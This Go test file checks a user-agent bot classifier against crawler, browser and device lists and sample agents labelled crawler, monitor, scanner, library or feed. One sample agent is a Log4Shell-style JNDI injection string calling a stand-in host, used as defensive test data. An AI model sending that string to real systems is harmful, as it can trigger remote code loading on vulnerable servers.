package model_test

import (
	"compress/gzip"
	"io"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"

	"waymark/shared/domain/bot"
	"waymark/shared/model"
)

func botRules(t *testing.T) *bot.Rules {
	t.Helper()
	rules, err := model.Bots()
	if err != nil {
		t.Fatal(err)
	}
	return rules
}

func agents(t *testing.T, name string) []string {
	t.Helper()
	text, err := os.ReadFile("testdata/bots/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSuffix(string(text), "\n"), "\n")
}

// TestBotsKnowCrawlers holds the rules against two public lists of programs: at least 995 of 1,000 are found.
func TestBotsKnowCrawlers(t *testing.T) {
	t.Parallel()
	rules := botRules(t)
	crawlers := agents(t, "crawlers.txt")
	reasons := map[string]int{}
	var missed []string
	for _, agent := range crawlers {
		reason := rules.Of(agent)
		if reason == "" {
			missed = append(missed, agent)
			continue
		}
		reasons[reason]++
	}
	t.Logf("%d of %d crawlers are found, %.2f %%: %v", len(crawlers)-len(missed), len(crawlers), 100-100*float64(len(missed))/float64(len(crawlers)), reasons)
	if len(crawlers) < 2583 || len(missed)*200 > len(crawlers) {
		t.Errorf("%d of %d crawlers are missed, want at most 1 of 200:\n%s", len(missed), len(crawlers), strings.Join(missed, "\n"))
	}
	if got := slices.Sorted(maps.Keys(reasons)); !slices.Equal(got, slices.Sorted(slices.Values(rules.Reasons()))) {
		t.Errorf("the crawlers have the reasons %v, want each of %v", got, rules.Reasons())
	}
}

// TestBotsSpareBrowsers: not one browser, app or mail service that loads images for its readers is taken for a bot.
func TestBotsSpareBrowsers(t *testing.T) {
	t.Parallel()
	rules := botRules(t)
	browsers := agents(t, "browsers.txt")
	wrong := 0
	for _, agent := range browsers {
		if reason := rules.Of(agent); reason != "" {
			t.Errorf("Of(%q) = %q, want none", agent, reason)
			wrong++
		}
	}
	t.Logf("%d of %d browsers are taken for bots", wrong, len(browsers))
	if len(browsers) < 728 {
		t.Errorf("there are %d browsers, want 728", len(browsers))
	}
}

// TestDisputedAgents: what one public list calls a program and another a browser is what it says of itself.
func TestDisputedAgents(t *testing.T) {
	t.Parallel()
	rules := botRules(t)
	people := []string{"AP3A.240617.008", "MetaIAB", "Fluid/"}
	disputed := agents(t, "disputed.txt")
	for _, agent := range disputed {
		isPeople := slices.ContainsFunc(people, func(word string) bool { return strings.Contains(agent, word) })
		if reason := rules.Of(agent); (reason == "") != isPeople {
			t.Errorf("Of(%q) = %q, want a reason: %t", agent, reason, !isPeople)
		}
	}
	if len(disputed) != 13 {
		t.Errorf("there are %d disputed agents, want 13", len(disputed))
	}
}

// TestBotsSpareDevices holds the rules against the devices of uap-core: of 8,012 agents at most 1 in 10,000 that is no program by its own name.
func TestBotsSpareDevices(t *testing.T) {
	t.Parallel()
	rules := botRules(t)
	programs := []string{"Http Connector Spider", "Huaweisymantecspider", "WordPress/3.8.1"} // the list has a device for each of these
	devices := packedAgents(t, "devices.txt.gz")
	for _, agent := range devices {
		isProgram := slices.ContainsFunc(programs, func(name string) bool { return strings.HasPrefix(agent, name) })
		if reason := rules.Of(agent); reason != "" && !isProgram {
			t.Errorf("Of(%q) = %q, want none", agent, reason)
		}
	}
	t.Logf("none of %d devices is taken for a bot", len(devices)-len(programs))
	if len(devices) != 8012 {
		t.Errorf("there are %d devices, want 8012", len(devices))
	}
}

// packedAgents are the agents of a packed file, one a line.
func packedAgents(t *testing.T, name string) []string {
	t.Helper()
	file, err := os.Open("testdata/bots/" + name)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	unpacked, err := gzip.NewReader(file)
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(unpacked)
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(strings.TrimSuffix(string(text), "\n"), "\n")
}

func TestBotReasons(t *testing.T) {
	t.Parallel()
	rules := botRules(t)
	for _, test := range []struct{ agent, want string }{
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "crawler"},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/142.0.0.0 Safari/537.36", "headless"},
		{"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor"},
		{"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview"},
		{"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)", "feed"},
		{"sqlmap/1.7 (https://sqlmap.org)", "scanner"},
		{"python-requests/2.32.3", "library"},
		{"curl/8.10.1", "library"},
		// Kinds that were missed: libraries, load testers, probes, scanners and feed readers.
		{"okhttp/4.12.0", "library"},
		{"RestSharp/106.5.4.0", "library"},
		{"PHP/8.3.2", "library"},
		{"Deno/1.42.0", "library"},
		{"ApacheBench/2.3", "monitor"},
		{"Apache-HttpClient/4.5 (JMeter 5.6)", "monitor"},
		{"kube-probe/1.29", "monitor"},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0 DejaClick/2.9.7.2", "monitor"},
		{"gobuster/3.6", "scanner"},
		{"Mozilla/5.0 Jorgee", "scanner"},
		{"${jndi:ldap://x.example/a}", "scanner"},
		{"Newsboat/2.35 (Linux x86_64)", "feed"},
		{"RSSOwl/2.2.1 (X11; U; en)", "feed"},
		// A program that names itself where Android names the device, or beside it.
		{"Mozilla/5.0 (Linux; U; Android 4.0.2; en-us; Catchpoint) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", "monitor"},
		{"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1)", "crawler"},
	} {
		if got := rules.Of(test.agent); got != test.want {
			t.Errorf("Of(%q) = %q, want %q", test.agent, got, test.want)
		}
	}
	if rules.Version() < 1 {
		t.Errorf("the rules have version %d", rules.Version())
	}
}
